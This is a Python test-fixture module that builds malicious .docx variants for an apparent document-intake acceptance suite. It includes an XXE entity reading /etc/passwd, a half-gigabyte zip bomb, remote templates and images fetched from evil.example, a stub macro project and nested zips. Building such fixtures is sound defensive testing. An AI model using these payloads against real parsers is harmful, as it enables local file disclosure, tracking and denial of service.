"""Bytes that no honest applicant sends, made from honest documents."""

from __future__ import annotations

import io
import re
import struct
import zipfile
from collections.abc import Callable

from tests.acceptance.model import Doc
from tests.acceptance.write import render


def repack(blob: bytes, edit: Callable[[dict[str, bytes]], None]) -> bytes:
    """A zip-based file with some of its parts changed."""
    with zipfile.ZipFile(io.BytesIO(blob)) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    edit(parts)
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as target:
        for name, content in parts.items():
            target.writestr(name, content)
    return stream.getvalue()


def with_macro(doc: Doc) -> bytes:
    """A docx that carries a VBA project."""

    def edit(parts: dict[str, bytes]) -> None:
        parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2048
        types = parts["[Content_Types].xml"].replace(
            b"</Types>",
            b'<Override PartName="/word/vbaProject.bin" '
            b'ContentType="application/vnd.ms-office.vbaProject"/></Types>',
        )
        parts["[Content_Types].xml"] = types
        _relate(
            parts,
            "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
            "vbaProject.bin",
            False,
        )

    return repack(render(doc), edit)


def _relate(parts: dict[str, bytes], kind: str, target: str, external: bool) -> None:
    mode = ' TargetMode="External"' if external else ""
    entry = f'<Relationship Id="rId990" Type="{kind}" Target="{target}"{mode}/></Relationships>'
    name = "word/_rels/document.xml.rels"
    parts[name] = parts[name].replace(b"</Relationships>", entry.encode())


def with_remote_template(doc: Doc) -> bytes:
    """A docx that loads its template from elsewhere when opened."""

    def edit(parts: dict[str, bytes]) -> None:
        parts["word/_rels/settings.xml.rels"] = (
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships '
            b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
            b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
            b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
        )
        parts["word/settings.xml"] = re.sub(
            rb"(<w:settings[^>]*>)",
            rb'\1<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
            rb' r:id="rId1"/>',
            parts["word/settings.xml"],
            count=1,
        )

    return repack(render(doc), edit)


def with_remote_image(doc: Doc) -> bytes:
    """A docx with a picture that is fetched from a server."""
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
    return repack(render(doc), lambda parts: _relate(parts, kind, "http://evil.example/p.png", True))


def with_tracked_changes(doc: Doc) -> bytes:
    """A docx with an insertion and a deletion that nobody has accepted."""
    change = (
        '<w:p><w:ins w:id="901" w:author="甲" w:date="2024-01-09T00:00:00Z"><w:r><w:t>'
        "补偿上限提高到二十万元。</w:t></w:r></w:ins>"
        '<w:del w:id="902" w:author="甲" w:date="2024-01-09T00:00:00Z"><w:r><w:delText>'
        "补偿上限为十万元。</w:delText></w:r></w:del></w:p><w:sectPr"
    )

    def edit(parts: dict[str, bytes]) -> None:
        body = parts["word/document.xml"].decode()
        head, _, tail = body.rpartition("<w:sectPr")
        parts["word/document.xml"] = (head + change + tail).encode()

    return repack(render(doc), edit)


def with_comment(doc: Doc) -> bytes:
    """A docx in which a reviewer's comment was left."""
    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"

    def edit(parts: dict[str, bytes]) -> None:
        parts["word/comments.xml"] = (
            f'<?xml version="1.0" encoding="UTF-8"?><w:comments xmlns:w="{w}"><w:comment '
            'w:id="0" w:author="乙" w:date="2024-01-09T00:00:00Z"><w:p><w:r>'
            "<w:t>这里请法务再核一下金额</w:t></w:r></w:p></w:comment>"
            "</w:comments>"
        ).encode()
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
            b"</Types>",
            b'<Override PartName="/word/comments.xml" ContentType="application/vnd.openxmlformats-'
            b'officedocument.wordprocessingml.comments+xml"/></Types>',
        )
        kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/comments"
        _relate(parts, kind, "comments.xml", False)
        body = parts["word/document.xml"].decode()
        mark = '<w:r><w:commentReference w:id="0"/></w:r></w:p>'
        parts["word/document.xml"] = body.replace("</w:p>", mark, 1).encode()

    return repack(render(doc), edit)


def with_entity(doc: Doc) -> bytes:
    """A docx whose XML names an external entity."""

    def edit(parts: dict[str, bytes]) -> None:
        body = parts["word/document.xml"].decode()
        body = re.sub(r"<\?xml[^>]*\?>", "", body)
        bomb = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY leak SYSTEM "file:///etc/passwd">]>'
        parts["word/document.xml"] = (bomb + body.replace("</w:t>", "&leak;</w:t>", 1)).encode()

    return repack(render(doc), edit)


def bomb(doc: Doc) -> bytes:
    """A small docx that unpacks to half a gigabyte."""
    with zipfile.ZipFile(io.BytesIO(render(doc))) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target:
        for name, content in parts.items():
            target.writestr(name, content)
        with target.open("word/media/huge.xml", "w", force_zip64=True) as huge:
            block = b"\0" * (1 << 20)
            for _ in range(512):
                huge.write(block)
    return stream.getvalue()


def nested_zip(depth: int) -> bytes:
    """A zip in a zip in a zip."""
    content = b"inside"
    for level in range(depth):
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w") as target:
            target.writestr(f"{level}.zip" if level else "a.txt", content)
        content = stream.getvalue()
    return content


def encrypted_office() -> bytes:
    """The outer shape of a docx saved with a password: a compound file with an EncryptedPackage stream."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<I", header, 44, 1)
    struct.pack_into("<I", header, 48, 1)
    struct.pack_into("<I", header, 56, 4096)
    struct.pack_into("<I", header, 60, 0xFFFFFFFE)
    struct.pack_into("<I", header, 68, 0xFFFFFFFE)
    for place in range(76, 512, 4):
        struct.pack_into("<I", header, place, 0xFFFFFFFF)
    struct.pack_into("<I", header, 76, 0)
    fat = bytearray(b"\xff" * 512)
    chain = [0xFFFFFFFD, 0xFFFFFFFE, *range(3, 18), 0xFFFFFFFE]
    for place, value in enumerate(chain):
        struct.pack_into("<I", fat, place * 4, value)
    directory = bytearray(512)
    for slot, (name, kind, child, start, size) in enumerate(
        [("Root Entry", 5, 1, 0xFFFFFFFE, 0), ("EncryptedPackage", 2, 0xFFFFFFFF, 2, 8192)]
    ):
        text = name.encode("utf-16-le")
        place = slot * 128
        directory[place : place + len(text)] = text
        struct.pack_into("<HBB", directory, place + 64, len(text) + 2, kind, 1)
        struct.pack_into("<III", directory, place + 68, 0xFFFFFFFF, 0xFFFFFFFF, child)
        struct.pack_into("<II", directory, place + 116, start, size)
    return bytes(header) + bytes(fat) + bytes(directory) + bytes(range(256)) * 32
